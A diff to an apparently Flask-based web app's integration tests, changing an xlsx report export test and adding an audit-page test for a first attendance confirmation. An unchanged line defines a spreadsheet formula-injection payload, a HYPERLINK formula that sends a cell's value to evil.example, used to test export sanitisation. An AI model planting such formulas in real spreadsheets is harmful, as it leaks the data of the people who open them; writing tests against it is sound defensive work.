@@ -13,7 +13,7 @@ from werkzeug.datastructures import FileStorage
 from werkzeug.test import encode_multipart
 
 from tests.integration.conftest import PASSWORD, assert_error
-from tests.integration.test_archive_api import approved_record
+from tests.integration.test_archive_api import approved_record, attended_training
 
 BIG = 2**63  # past every integer column: a 500 if it reached the database
 
@@ -173,11 +173,11 @@ def test_report_xlsx_of_a_unit_whose_name_has_sheet_title_characters(client, adm
     response = client.get(f"/admin/reports/export.xlsx?unit_id={unit['id']}&year=2026")
     assert response.status_code == 200
     book = load_workbook(io.BytesIO(response.data))
-    (title,) = book.sheetnames
+    title = book.sheetnames[0]  # the members' sheet, named after the unit
     assert len(title) <= 31
     assert not set(title) & set("[]:*?/\\")
     assert title.startswith("R&D_QA _east__ ")
-    assert [row[0] for row in book.active.iter_rows(values_only=True)][1:] == ["ann"]
+    assert [row[0] for row in book.worksheets[0].iter_rows(values_only=True)][1:] == ["ann"]
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Certificate")'
@@ -349,3 +349,14 @@ def test_text_with_nul_characters_is_400_and_saves_nothing(app, client, admin):
     login_page = client.post("/login", data={"username": "ro\x00ot", "password": PASSWORD})
     assert login_page.status_code == 400
     assert client.get("/api/v1/courseware", headers=admin).json == []
+
+
+def test_the_audit_page_shows_a_first_confirmation(client, admin, make_user):
+    """Its entry has no earlier state (`old` is null): the page once answered 500."""
+    ann = make_user("ann")
+    attended_training(client, admin, ann, 1, "2026-03-02")
+    login(client, "root")
+    page = client.get("/admin/audit")
+    assert page.status_code == 200
+    assert "attendance.confirm" in page.text
+    assert "credited_ms: None →" in page.text
